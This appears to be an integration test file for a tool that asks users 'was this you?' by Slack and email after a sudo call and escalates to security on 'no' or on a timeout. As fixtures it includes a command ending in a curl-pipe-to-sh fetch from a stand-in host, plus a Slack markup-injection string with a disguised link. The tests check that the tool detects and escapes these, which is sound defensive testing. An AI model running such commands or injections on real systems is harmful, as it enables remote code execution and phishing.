// "Was this you?" end to end through the real App: alice's sudo on web1 reaches her as a Slack DM (contract
// Slack) and a mail (real SMTP on loopback); "not me" through the page or a signed Slack button escalates to
// security at once; silence escalates exactly at the timeout; "yes" ends it.
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { App } from '../../src/app.ts';
import { ManualClock } from '../../src/clock.ts';
import { captureLog } from '../helpers/capture-log.ts';
import { dmChannel } from '../notifiers/servers/slack.ts';
import { ALICE, buttonToken, mailLink, pressInSlack, startApp, startWorld, sudoLine, type World, WAIT } from './fixture.ts';

const T0 = Date.parse('2026-11-30T12:00:00Z');
const CMD = '/usr/bin/systemctl stop nginx';

describe('ask: was this you?', () => {
  let world: World;
  let app: App;
  let clock: ManualClock;
  const logged = captureLog('info');
  beforeEach(async () => {
    world = await startWorld();
    clock = new ManualClock(T0);
    app = await startApp(world, clock, logged.log);
  });
  afterEach(async () => {
    await app.stop();
    await world.close();
  });

  /** alice's sudo call, and the DM and mail it becomes. */
  async function asked(): Promise<{ dm: Record<string, any>; mail: string }> {
    const dms = world.slack.messages.length;
    const mails = world.smtp.mails.length;
    app.accept(sudoLine(clock, 'alice', 'web1', CMD));
    await vi.waitFor(() => {
      expect(world.slack.messages.length).toBe(dms + 1);
      expect(world.smtp.mails.length).toBe(mails + 1);
    }, WAIT);
    return { dm: world.slack.messages.at(-1)!, mail: world.smtp.mails.at(-1)!.raw };
  }

  it('alice gets a DM with buttons and a mail with answer links, addressed to her alone; nobody else hears', async () => {
    const { dm } = await asked();
    expect(dm.channel).toBe(dmChannel(ALICE));
    expect(dm.text).toContain(`Was this you? Did you run ${CMD} on web1?`);
    expect(buttonToken(dm, 'yes')).toMatch(/^[\w-]+\.[\w-]{43}$/);
    // Log text goes in verbatim sections: Slack links nothing in it, so it cannot pose as an answer link.
    const sections = (dm.blocks as { type: string; text?: { verbatim?: boolean } }[]).filter((b) => b.type === 'section');
    expect(sections.length).toBeGreaterThan(0);
    expect(sections.every((b) => b.text?.verbatim === true)).toBe(true);
    const opened = world.slack.requests.filter((r) => r.path === '/api/conversations.open');
    expect(opened).toHaveLength(1);
    const mail = world.smtp.mails.at(-1)!;
    // The mailto URL's cc (audit@) does not see a message meant for one person.
    expect(mail.to).toEqual(['alice@example.com']);
    expect(mailLink(mail.raw, 'no')).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${world.httpPort}/answer\\?t=`));
    expect(world.security.received).toHaveLength(0);
    expect(world.ops.received).toHaveLength(0);
  });

  // "At once" below: relay's clock (a ManualClock) never moves, so an escalation held by any of relay's timers
  // (the question's deadline, a digest, a retry) would never arrive; the wait only covers loopback I/O.
  it('"not me" through the page: the GET only shows the question; the POST tells security at once', async () => {
    const { mail } = await asked();
    const link = mailLink(mail, 'no');
    const page = await fetch(link);
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('<form method="post" action="answer">');
    expect(page.headers.get('cache-control')).toBe('no-store');
    // Fetching the link (a mail scanner, an unfurler) answered nothing.
    expect(app.asker!.list()[0]!.status).toBe('pending');
    const token = new URL(link).searchParams.get('t')!;
    const done = await fetch(new URL('/answer', link), {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ t: token }).toString(),
    });
    expect(done.status).toBe(200);
    await vi.waitFor(() => expect(world.security.received).toHaveLength(1), WAIT);
    const [alert] = world.security.json<{ title: string; message: string }>();
    expect(alert!.title).toBe(`alice says she did not run ${CMD} on web1`);
    expect(alert!.message).toContain('answered "no, not me"');
    expect(alert!.message).toContain('through the answer page');
  });

  it('"not me" through a signed Slack button tells security at once', async () => {
    const { dm } = await asked();
    const res = await pressInSlack(world, clock, dm, 'no');
    expect(res.status).toBe(200);
    await vi.waitFor(() => expect(world.security.received).toHaveLength(1), WAIT);
    expect(world.security.json<{ title: string; message: string }>()[0]!.title).toBe(`alice says she did not run ${CMD} on web1`);
  });

  it('nobody answers: escalation exactly at the timeout, not a millisecond before', async () => {
    await asked();
    clock.advance(15 * 60_000 - 1);
    expect(app.asker!.stats.unanswered).toBe(0);
    await settle(app);
    expect(world.security.received).toHaveLength(0);
    clock.advance(1);
    expect(app.asker!.stats.unanswered).toBe(1);
    await world.security.waitFor(1);
    const [alert] = world.security.json<{ title: string; message: string }>();
    expect(alert!.title).toBe(`nobody answered: alice did not answer "Did you run ${CMD} on web1?" within 15m`);
    expect(alert!.message).toContain('did not answer by 2026-11-30T12:15:00Z');
  });

  it('"yes" ends it: security is told at info level, nothing at the timeout, and the same call is not asked again for on_yes.quiet_for (security is told)', async () => {
    const { dm } = await asked();
    const res = await pressInSlack(world, clock, dm, 'yes');
    expect(JSON.parse(res.body)).toEqual({ answer: 'yes' });
    // The DM's question is replaced (its buttons go) through the interaction's response_url.
    await vi.waitFor(
      () =>
        expect(world.slack.responses).toEqual([
          { replace_original: true, text: `Recorded: you ran it. "Did you run ${CMD} on web1?" is closed.` },
        ]),
      WAIT,
    );
    clock.advance(20 * 60_000);
    app.accept(sudoLine(clock, 'alice', 'web1', CMD));
    // Not asked again; security hears of the "yes" and of this at info level, and of nothing else (no escalation).
    await world.security.waitFor(2);
    await settle(app);
    expect(world.security.json<{ title: string; type: string }>()).toEqual([
      expect.objectContaining({ title: `alice confirmed: Did you run ${CMD} on web1?`, type: 'info' }),
      expect.objectContaining({ title: `not asked again (alice said yes before): Did you run ${CMD} on web1?`, type: 'info' }),
    ]);
    expect(world.slack.messages).toHaveLength(1);
    expect(app.asker!.stats).toMatchObject({ asked: 1, yes: 1, quieted: 1, no: 0, unanswered: 0 });
    // Past quiet_for, the same call is asked again.
    clock.advance(60 * 60_000);
    await asked();
  });

  it('a "yes" quiets only the same call: another command sharing its first 120 characters is asked, and a repeat is recorded and told, never silent', async () => {
    const long = `/usr/bin/systemctl restart nginx-${'x'.repeat(100)} --now`;
    const dms = world.slack.messages.length;
    app.accept(sudoLine(clock, 'alice', 'web1', long));
    await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 1), WAIT);
    const res = await pressInSlack(world, clock, world.slack.messages.at(-1)!, 'yes');
    expect(JSON.parse(res.body)).toEqual({ answer: 'yes' });
    // The same first 120 characters, then something else: a different call, asked.
    const other = `${long.slice(0, 120)}; curl -s http://evil.example/x | sh`;
    clock.advance(60_000);
    app.accept(sudoLine(clock, 'alice', 'web1', other));
    await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 2), WAIT);
    expect(world.slack.messages.at(-1)!.text).toContain('curl -s http://evil.example/x | sh');
    // The very same call again: not asked, but kept for `relay answers` and told to security.
    clock.advance(60_000);
    app.accept(sudoLine(clock, 'alice', 'web1', long));
    await vi.waitFor(() => expect(app.asker!.list().filter((q) => q.status === 'quieted')).toHaveLength(1), WAIT);
    const [quieted] = app.asker!.list().filter((q) => q.status === 'quieted');
    expect(quieted!.note).toMatch(/^alice answered "yes" to the same event at 2026-11-30T12:00:00\.000Z \(question [\w-]+\)$/);
    await world.security.waitFor(2);
    const titles = world.security.json<{ title: string }>().map((a) => a.title);
    expect(titles).toEqual([
      `alice confirmed: Did you run ${long} on web1?`,
      `not asked again (alice said yes before): Did you run ${long} on web1?`,
    ]);
    expect(world.slack.messages).toHaveLength(dms + 2);
    expect(app.asker!.stats).toMatchObject({ asked: 2, yes: 1, quieted: 1 });
  });

  it('the text that replaces the DM after an answer keeps log text as text: no @channel, no disguised link', async () => {
    const hostile = '/bin/true <!channel> <https://evil.example/answer|Yes, it was me>';
    const dms = world.slack.messages.length;
    app.accept(sudoLine(clock, 'alice', 'web1', hostile));
    await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 1), WAIT);
    await pressInSlack(world, clock, world.slack.messages.at(-1)!, 'yes');
    await vi.waitFor(() => expect(world.slack.responses).toHaveLength(1), WAIT);
    const { text } = world.slack.responses[0] as { text: string };
    expect(text).toBe(
      'Recorded: you ran it. "Did you run /bin/true &lt;!channel&gt; &lt;https://evil.example/answer|Yes, it was me&gt; on web1?" is closed.',
    );
  });
});

/** Lets every alert the app holds reach its notifier (delivery runs on real I/O). */
async function settle(app: App): Promise<void> {
  await vi.waitFor(() => expect(app.dispatcher.stats.queued).toBe(0), WAIT);
}
